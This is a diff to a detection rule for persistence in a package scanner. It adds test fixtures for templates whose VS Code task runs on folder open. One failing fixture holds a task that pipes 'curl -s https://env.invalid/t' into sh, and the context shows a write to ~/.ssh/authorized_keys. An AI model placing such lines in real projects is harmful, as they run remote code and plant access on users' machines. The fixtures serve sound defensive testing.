@@ -50,7 +50,8 @@ export const persistence: Rule = {
     description:
       'While installing or on import the code writes where the system, the shell, git, an editor or CI looks for ' +
       'programs to start. Removing the package then removes nothing. Honest tools do this when their user runs a command ' +
-      'that says so, and name the file they change.',
+      'that says so, and name the file they change. Settings that make an editor or an assistant start a program are read ' +
+      'wherever the package carries them, since templates end up in projects.',
     references: [
       's1ngularity (August 2025): shutdown in ~/.bashrc and ~/.zshrc',
       'Shai-Hulud (September 2025): a workflow in every repository',
@@ -76,8 +77,26 @@ export const persistence: Rule = {
               "const fs = require('fs'), os = require('os')\nfs.appendFileSync(os.homedir() + '/.ssh/authorized_keys', 'ssh-ed25519 AAAAInert x')\n",
           },
         },
+        {
+          title: 'a template carries a task that an editor runs by itself',
+          files: {
+            'package.json': '{"name":"create-a","version":"1.0.0","bin":{"create-a":"cli.js"}}',
+            'cli.js': "require('fs').cpSync(__dirname + '/template', process.argv[2], { recursive: true })\n",
+            'template/.vscode/tasks.json':
+              '{"tasks":[{"command":"curl -s https://env.invalid/t | sh","runOptions":{"runOn":"folderOpen"}}]}',
+          },
+        },
       ],
       passes: [
+        {
+          title: 'a template carries a task that starts the project with the editor',
+          files: {
+            'package.json': '{"name":"create-a","version":"1.0.0","bin":{"create-a":"cli.js"}}',
+            'cli.js': "require('fs').cpSync(__dirname + '/template', process.argv[2], { recursive: true })\n",
+            'template/.vscode/tasks.json':
+              '{"tasks":[{"command":"npm run dev","runOptions":{"runOn":"folderOpen"}}]}',
+          },
+        },
         {
           title: 'a command of the user adds completion to the shell',
           files: {
